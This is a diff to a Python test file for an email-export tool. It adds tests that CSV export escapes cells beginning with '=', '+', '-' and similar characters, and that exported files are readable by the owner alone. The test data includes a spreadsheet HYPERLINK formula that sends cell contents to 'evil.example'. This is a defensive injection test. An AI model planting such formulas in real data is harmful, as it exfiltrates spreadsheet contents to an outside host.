@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import json
 import mailbox
+import os
 import random
 import subprocess
 import sys
@@ -396,13 +397,63 @@ def test_the_csv_summarises_every_message_drafts_included(
             "State": "draft",
             "To": "x@y.z",
             "Cc": "",
-            "Subject": "=SUM(A1)",
+            "Subject": "'=SUM(A1)",  # text to a spreadsheet, not a formula
             "Company": "",
             "Position": "",
             "Template": "",
             "Message-ID": "",
         },
     ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_writes_formula_cells_as_text(store: Store, tmp_path: Path, start: str) -> None:
+    """A subject or company someone else chose must not run as a spreadsheet formula."""
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    interview = store.add_interview(Interview(company=formula, position="Lead"))
+    draft = store.save_message(
+        Message(subject=formula, body="", to=["x@y.z"], interview_id=interview.id)
+    )
+    assert draft.id is not None
+    path = tmp_path / "summary.csv"
+
+    export_csv(store, [draft.id], path)
+
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        [row] = list(csv.DictReader(file))
+    assert row["Subject"] == row["Company"] == "'" + formula
+    assert (row["To"], row["Position"]) == ("x@y.z", "Lead")
+
+
+# --- the user's alone ------------------------------------------------------------------------
+
+
+@pytest.fixture
+def usual_umask() -> Iterator[None]:
+    """022, most systems' default: a file made without care is then 0644, world-readable."""
+    old = os.umask(0o022)
+    yield
+    os.umask(old)
+
+
+def mode(path: Path) -> int:
+    return path.stat().st_mode & 0o777
+
+
+@pytest.mark.usefixtures("usual_umask")
+def test_every_export_is_readable_by_the_user_alone(store: Store, tmp_path: Path) -> None:
+    ids = sent_directly(store, big_raw(), 2)
+    (tmp_path / "summary.csv").write_text("an older export, once 0644")
+    os.chmod(tmp_path / "summary.csv", 0o644)
+
+    emls = export_eml(store, ids, tmp_path / "new folder").files
+    mbox = export_mbox(store, ids, tmp_path / "records.mbox").files
+    summary = export_csv(store, ids, tmp_path / "summary.csv").files
+
+    assert {path: mode(path) for path in [*emls, *mbox, *summary]} == dict.fromkeys(
+        [*emls, *mbox, *summary], 0o600
+    )
+    assert mode(tmp_path / "new folder") == 0o700
 
 
 # --- big exports, and errors -----------------------------------------------------------------
